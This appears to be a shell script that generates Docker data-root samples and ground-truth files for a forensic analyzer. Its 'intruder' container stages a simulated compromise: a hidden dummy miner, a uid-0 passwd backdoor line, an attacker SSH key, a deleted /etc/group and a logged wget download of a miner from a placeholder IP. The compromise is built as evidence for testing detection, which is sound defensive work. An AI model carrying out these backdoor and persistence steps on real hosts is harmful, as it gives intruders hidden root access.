# scenario.sh — the sample scenario, shared by make_samples.sh (dockerd 20.10, graphdriver)
# and make_containerd_samples.sh (dockerd 26, containerd image store). Sourced, not run.
#
# Expects from the caller: the function `d` (the docker CLI on the private daemon) and
# `log`, and the variables WORK (scratch folder), TRUTH (truth folder), FULL (1 = the
# whole scenario, 0 = a subset) and SOCK (the daemon's socket). Every step is the same
# on both daemons; where they differ, the caller passes the difference in.

# Case: imported image (no parent, history "Imported from -"), two tags on one
# image ID (base:1.0 + base:latest). Deterministic tar => same diffID every run.
scenario_base_image() {
  log "base image"
  local BR=$WORK/baseroot a
  mkdir -p "$BR"/{bin,etc,tmp,root,dev,proc,sys,var/log,home/app}
  cp /usr/bin/busybox "$BR/bin/busybox"
  for a in sh ash ls cat echo sleep wget nc mkdir rm cp mv ln chmod chown touch \
           head tail tr seq printf id env grep sed awk httpd ps kill date true \
           false test dd gzip find sha256sum uname hostname stat xargs wc tee vi; do
    ln -s busybox "$BR/bin/$a"
  done
  cat > "$BR/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/sh
app:x:1000:1000:app:/home/app:/bin/sh
nobody:x:65534:65534:nobody:/nonexistent:/bin/false
EOF
  cat > "$BR/etc/group" <<'EOF'
root:x:0:
app:x:1000:
nogroup:x:65534:
EOF
  chmod 1777 "$BR/tmp"; chmod 700 "$BR/root"; chown 1000:1000 "$BR/home/app"
  tar -C "$BR" --sort=name --numeric-owner --owner=0 --group=0 \
      --mtime='2024-01-01 00:00:00Z' -cf "$WORK/base.tar" .
  d import -m "busybox-static root for docker-root analyzer samples" \
    -c 'CMD ["/bin/sh"]' "$WORK/base.tar" base:1.0
  d tag base:1.0 base:latest
}

# Case: legacy builder (DOCKER_BUILDKIT=0; still works on 26 with the containerd
# store): intermediate images + parent chain, many layers exercising the layer-merge
# logic: dup.txt byte-identical in two layers, secret.txt deleted later (whiteout),
# /opt/d replaced wholesale (opaque dir on overlay2), chmod-only change, hardlink,
# symlink, ENV/LABEL/EXPOSE/VOLUME/WORKDIR/CMD in the config.
scenario_legacy_build() {
  log "legacy build app:legacy"
  local C=$WORK/ctx-legacy
  mkdir -p "$C/d/sub" "$C/www"
  printf 'alpha file\n' > "$C/a.txt"
  printf 'same bytes in two layers\n' > "$C/dup.txt"
  printf 'AWS_SECRET_ACCESS_KEY=not-a-real-key-EXAMPLE\n' > "$C/secret.txt"
  printf 'old 1\n' > "$C/d/old1"; printf 'old 2\n' > "$C/d/sub/old2"
  printf '<h1>sample</h1>\n' > "$C/www/index.html"
  cat > "$C/run.sh" <<'EOF'
#!/bin/sh
# web-1's log generator (json-file, max-size=1k, max-file=3 => rotation)
echo "web starting on :8080"
echo "warning: config missing, using defaults" >&2
i=1
while [ $i -le 30 ]; do echo "GET /index.html 200 req=$i"; i=$((i+1)); done
printf 'tab\tseparated\tvalues\n'
echo 'non-ASCII: grüße – 日本語 – ✓'
echo 'stderr non-ASCII: ошибка ✗' >&2
printf 'invalid utf-8: \377\376 end\n'
# one 20000-byte line: json-file stores it as partial records (16 KiB + rest)
head -c 20000 /dev/zero | tr '\0' 'x'; echo
echo "error: upstream timeout" >&2
echo "serving"
exec httpd -f -p 8080 -h /app/www
EOF
  cat > "$C/Dockerfile" <<'EOF'
FROM base:1.0
LABEL org.example.case="legacy-build" maintainer="samples@example.invalid"
ENV APP_HOME=/app APP_MODE=production
COPY a.txt dup.txt /app/
COPY secret.txt /app/secret.txt
COPY d/ /opt/d/
RUN rm /app/secret.txt
RUN rm -rf /opt/d && mkdir /opt/d && echo new > /opt/d/f
RUN chmod 0600 /app/a.txt
COPY dup.txt /app/dup.txt
RUN echo linked > /app/h1 && ln /app/h1 /app/h2 && ln -s /app/a.txt /app/link-to-a
COPY run.sh /app/run.sh
COPY www/ /app/www/
EXPOSE 8080
VOLUME /var/cache/app
WORKDIR /app
CMD ["/bin/sh", "/app/run.sh"]
EOF
  DOCKER_BUILDKIT=0 d build -t app:legacy "$C" 2>&1 | tee "$TRUTH/build-app-legacy.log"
}

# Case: BuildKit-built image (no intermediate images, buildkit/ state dirs).
scenario_buildkit_build() {
  log "buildkit build app:buildkit"
  local C=$WORK/ctx-bk
  mkdir -p "$C"
  printf 'hello from buildkit\n' > "$C/hello.txt"
  cat > "$C/Dockerfile" <<'EOF'
FROM base:1.0
RUN mkdir -p /srv && echo "built by buildkit" > /srv/info.txt && echo tmp > /srv/gone.txt
COPY hello.txt /srv/hello.txt
RUN rm /srv/gone.txt
ENV BUILT_WITH=buildkit
LABEL org.example.case="buildkit-build"
CMD ["/bin/cat", "/srv/hello.txt"]
EOF
  if ! DOCKER_BUILDKIT=1 d build --progress=plain -t app:buildkit "$C" \
        > "$TRUTH/build-app-buildkit.log" 2>&1; then
    echo "BUILDKIT FAILED (see truth/build-app-buildkit.log)" >&2
    echo "buildkit build failed" > "$TRUTH/BUILDKIT_FAILED"
  fi
}

# Case: dangling image (<none>:<none>, tag moved to a newer build).
# scenario_dangling [keep-logs]: with an argument, the build logs go to truth/.
scenario_dangling() {
  log "dangling image"
  local C=$WORK/ctx-tool v
  mkdir -p "$C"
  for v in 1 2; do
    printf 'FROM base:1.0\nRUN echo v%s > /version.txt\nCMD ["cat","/version.txt"]\n' "$v" \
      > "$C/Dockerfile"
    if [ $# -gt 0 ]; then
      DOCKER_BUILDKIT=0 d build -t tool:dev "$C" 2>&1 | tee "$TRUTH/build-tool-dev-$v.log"
    else
      DOCKER_BUILDKIT=0 d build -t tool:dev "$C"
    fi
  done
}

# Case: named volume with content (data), orphan volume (no user), labelled
# volume, and a local volume with driver options (opts.json).
scenario_volumes() {
  log "volumes"
  d volume create data
  if [ "$FULL" = 1 ]; then
    d volume create orphan
    d volume create --label case=labeled --label owner=samples labeled
    d volume create --driver local --opt type=tmpfs --opt device=tmpfs \
      --opt o=size=1m,uid=1000 tmpfs-opts
  fi
}

# The containers every sample has. scenario_core_containers [exited-1: 1|0]
scenario_core_containers() {
  log "containers"
  # web-1: running, image CMD, json-file rotation (1k x 3), stdout+stderr,
  # >16 KiB line (partial records), non-ASCII, tab, invalid UTF-8, port binding.
  d run -d --name web-1 --log-opt max-size=1k --log-opt max-file=3 \
    -p 127.0.0.1:18080:8080 app:legacy

  # exited-0 / exited-1: exit codes; exited-0 also gets committed (below).
  d run --name exited-0 base:1.0 sh -c 'echo hello > /tmp/out.txt; echo bye; exit 0' || true
  if [ "${1:-1}" = 1 ]; then
    d run --name exited-1 base:1.0 sh -c 'echo "fatal: boom" >&2; exit 1' || true
  fi

  # created-only: never started (no State.StartedAt, RW layer = init only).
  d create --name created-only -e FOO=bar app:legacy

  # vol-user: named volume "data" with files + the anonymous volume from the
  # image's VOLUME /var/cache/app with a file in it.
  d run -d --name vol-user -v data:/mnt/data app:legacy sh -c '
  echo payload > /mnt/data/file1.txt; mkdir -p /mnt/data/sub
  echo nested > /mnt/data/sub/file2.txt; echo anon > /var/cache/app/cached.txt
  echo "volumes written"; exec sleep 86400'

  # intruder: running; the exec'd actions below are the "compromise" to find:
  # dropped executable in a hidden dir, passwd backdoor line, authorized_keys,
  # deleted /etc/group (whiteout in the RW layer), a download command in the
  # container's own log (written to PID 1's stdout/stderr), a file in /dev/shm
  # (default IpcMode "private": runc mounts that tmpfs inside the container's own
  # mount namespace, so it is NOT in the data-root — the truth lists it in no file;
  # the analyzer must not claim to see it).
  d run -d --name intruder base:1.0 sh -c 'echo "intruder container up"; exec sleep 86400'
  sleep 1
  d exec intruder sh -c 'mkdir -p /tmp/.x && printf "#!/bin/sh\nwhile :; do :; done\n" > /tmp/.x/miner && chmod 755 /tmp/.x/miner'
  d exec intruder sh -c 'echo "toor:x:0:0:root:/root:/bin/sh" >> /etc/passwd'
  d exec intruder sh -c 'mkdir -p /root/.ssh && chmod 700 /root/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE attacker@evil.example" > /root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys'
  d exec intruder rm /etc/group
  d exec intruder sh -c 'echo "+ wget -q -O /tmp/.x/miner http://203.0.113.7/x86_64/miner" > /proc/1/fd/1; echo "wget: cannot connect to remote host (203.0.113.7): Network unreachable" > /proc/1/fd/2'
  d exec intruder sh -c 'echo "stash" > /dev/shm/.cache-x && chmod 755 /dev/shm/.cache-x'
}

# Log-driver cases of the full scenario.
scenario_log_containers() {
  # web-gz: json-file with compress=true => rotated *.log.1.gz / *.log.2.gz.
  d run --name web-gz --log-opt max-size=1k --log-opt max-file=3 \
    --log-opt compress=true base:1.0 sh -c '
    i=1; while [ $i -le 120 ]; do echo "gz line $i lorem ipsum dolor sit amet"; i=$((i+1)); done
    echo "gz done" >&2' || true

  # local-log: the "local" log driver (protobuf records in local-logs/container.log).
  d run --name local-log --log-driver local base:1.0 sh -c '
    echo "local out 1"; echo "local err 1" >&2; printf "local\ttab\n"
    echo "local non-ASCII: café"; echo "local err 2" >&2' || true
}

# Host-mount, network, paused and committed cases of the full scenario (after the
# caller's privileged cases, which differ between daemon versions).
scenario_other_containers() {
  # hostmount: bind of the host root (ro) and of a docker socket.
  local SOCKSRC
  if [ -S /var/run/docker.sock ]; then SOCKSRC=/var/run/docker.sock; else SOCKSRC=$SOCK; fi
  d run -d --name hostmount -v /:/host:ro -v "$SOCKSRC":/var/run/docker.sock \
    base:1.0 sleep 86400

  # net-user: user-defined bridge network with aliases.
  d network create --label case=user-network backend
  d run -d --name net-user --network backend --network-alias api \
    --network-alias api.internal base:1.0 sleep 86400

  # paused: running, then frozen.
  d run -d --name paused base:1.0 sleep 86400
  d pause paused || echo "PAUSE FAILED" | tee "$TRUTH/PAUSE_FAILED" >&2

  # committed image (parent = base:1.0, Comment/Author set).
  d commit -a "samples <samples@example.invalid>" -m "snapshot of exited-0" \
    -c 'LABEL org.example.case=commit' exited-0 snap:exited-0
}

# The docker CLI's own text and byte-exact `docker logs`, recorded into truth/.
scenario_cli_truth() {
  d ps -a > "$TRUTH/docker-ps-a.txt"
  d ps -a -s --no-trunc > "$TRUTH/docker-ps-a-s-no-trunc.txt"
  d images -a > "$TRUTH/docker-images-a.txt"
  d images -a --digests --no-trunc > "$TRUTH/docker-images-a-no-trunc.txt"
  # top-level dangling images only (intermediates are <none> too, but not dangling)
  d images -f dangling=true --no-trunc > "$TRUTH/docker-images-dangling.txt"
  d system df -v > "$TRUTH/docker-system-df-v.txt"
  local n
  for n in $(d ps -a --format '{{.Names}}'); do
    # NB: with the containerd store every /changes (docker diff) creates and then
    # removes a view snapshot "<id>-parent-view" => gaps in snapshot numbering.
    d diff "$n" > "$TRUTH/docker-diff-$n.txt" 2>&1 || true
    # byte-exact `docker logs`. Never-started containers are skipped and get empty
    # files: on 20.10 `docker logs` of a container that is not running starts its log
    # driver, which CREATES an empty <id>-json.log — recording would alter the evidence.
    if [ "$(d inspect -f '{{.State.StartedAt}}' "$n")" = 0001-01-01T00:00:00Z ]; then
      : > "$TRUTH/logs-$n.stdout"; : > "$TRUTH/logs-$n.stderr"
      : > "$TRUTH/logs-$n.ts.stdout"; : > "$TRUTH/logs-$n.ts.stderr"
      continue
    fi
    d logs "$n" > "$TRUTH/logs-$n.stdout" 2> "$TRUTH/logs-$n.stderr" || true
    d logs --timestamps "$n" > "$TRUTH/logs-$n.ts.stdout" 2> "$TRUTH/logs-$n.ts.stderr" || true
  done
}
